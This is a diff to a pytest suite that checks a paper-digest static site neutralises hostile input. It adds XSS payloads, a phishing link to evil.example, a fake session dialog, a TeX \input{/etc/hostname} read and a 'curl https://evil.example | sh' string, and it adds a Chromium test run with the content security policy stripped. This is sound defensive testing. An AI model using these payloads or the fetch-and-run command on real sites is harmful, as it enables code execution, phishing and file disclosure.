@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import json
+import re
+import shutil
 from pathlib import Path
 
 import feedparser
@@ -67,6 +69,12 @@ BODY_ATTACKS = [
     pytest.param("<xmp><img src=x onerror=alert(1)></xmp>", id="xmp-differential"),
     pytest.param('<a href="#" onclick="alert(1)">x</a>', id="anchor-onclick"),
     pytest.param('<img src="x" srcset="javascript:alert(1) 1x">', id="img-srcset"),
+    # The second pass: template boundaries, the theme's ids and classes, links that leave the site.
+    pytest.param("## Method {id='x\"><img src=x onerror=alert(1)>'}", id="heading-id-breakout"),
+    pytest.param('<span id="__code_0">curl https://evil.example | sh</span>', id="theme-id-code"),
+    pytest.param("## Setup {#__config}", id="theme-id-config"),
+    pytest.param('<div class="md-dialog md-dialog--active">Session expired</div>', id="theme-class-dialog"),
+    pytest.param("[log in again](//evil.example/login)", id="protocol-relative"),
 ]
 # Front-matter text that looks like HTML: plain text everywhere (the pick is valid and gets published).
 PAYLOAD = "<img src=x onerror=alert(1)>"
@@ -82,6 +90,17 @@ FRONT_MATTER_ATTACKS = {
     "2024-04-07-mention.md": pick_text("Mention", "2024-04-07", arxiv="2404.00007", extra=f'mentions: ["{PAYLOAD}"]\n'),
     "2024-04-08-think.md": pick_text("Why <think> tags matter", "2024-04-08", arxiv="2404.00008", tags=["probe"]),
     "2024-04-09-code.md": pick_text("Inline code", "2024-04-09", arxiv="2404.00009", body="Write `<b>` as code.\n"),
+    # The second pass: what check accepts from its classes, neutralised (tag-like prose, TeX, line breaks, mentions).
+    "2024-04-10-tokens.md": pick_text(
+        "Tokens",
+        "2024-04-10",
+        arxiv="2404.00010",
+        body="The BOS <s> and <think> and Vec<String>.\n\n## The `<img src=x onerror=alert(1)>` trick\n",
+    ),
+    "2024-04-11-tex.md": pick_text(
+        "TeX", "2024-04-11", arxiv="2404.00011", paper_title="$\\input{/etc/hostname}$\nER  - \nTY  - JOUR"
+    ),
+    "2024-04-12-handle.md": pick_text("Handle", "2024-04-12", arxiv="2404.00012", authors='["@someone", Ada Lovelace]'),
 }
 URL_ATTACKS = [
     pytest.param("url", 'https://x.org/"><script>alert(1)</script>', id="url-quote"),
@@ -97,6 +116,7 @@ SETTINGS = LoadSettings(
     "interpretability",
     renderer=BodyRenderer(EXTENSIONS),
 )
+_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "xlink:href", "content"}
 FORBIDDEN = ("script", "iframe", "object", "embed", "style", "form", "math", "base", "meta", "link", "template")
 
 
@@ -149,7 +169,8 @@ def _assert_inert(root: html.HtmlElement, *, only_allowed_tags: bool = True) -> 
         for name, value in element.attrib.items():
             assert not name.lower().startswith("on") and name.lower() not in ("style", "srcset", "srcdoc"), name
             compact = "".join(value.split()).lower()
-            assert not compact.startswith(("javascript:", "data:", "vbscript:")), value
+            if name.lower() in _URL_ATTRIBUTES:  # a title or alt may say "javascript:" as text
+                assert not compact.startswith(("javascript:", "data:", "vbscript:")), value
 
 
 def test_build_refuses_attack_and_keeps_previous_site(tmp_path: Path) -> None:
@@ -258,12 +279,26 @@ async () => {
 """.replace("FORBIDDEN", ", ".join(FORBIDDEN))
 
 
-def test_no_payload_runs_in_chromium(chromium, attacked_site: Path) -> None:
+def _without_policy(site: Path, copy: Path) -> Path:
+    """The site as ``mkdocs serve`` showed it before it had a policy: the first wall must hold on its own."""
+    shutil.copytree(site, copy)
+    stripped = 0
+    for path in copy.rglob("index.html"):
+        text = path.read_text("utf-8")
+        path.write_text(re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", text), "utf-8")
+        stripped += "Content-Security-Policy" in text
+    assert stripped == len(_pages(copy))
+    return copy
+
+
+@pytest.mark.parametrize("policy", [True, False], ids=["with-csp", "without-csp"])
+def test_no_payload_runs_in_chromium(chromium, attacked_site: Path, tmp_path: Path, policy: bool) -> None:
     dialogs: list[str] = []
     page = chromium.new_page()
     page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
-    for base in serve_folder(attacked_site):
-        urls = [base + str(p.parent.relative_to(attacked_site)) + "/" for p in _pages(attacked_site)]
+    site = attacked_site if policy else _without_policy(attacked_site, tmp_path / "site")
+    for base in serve_folder(site):
+        urls = [base + str(p.parent.relative_to(site)) + "/" for p in _pages(site)]
         for url in urls:
             page.goto(url.replace("/./", "/"))
             assert page.evaluate(_POKE) == [], url
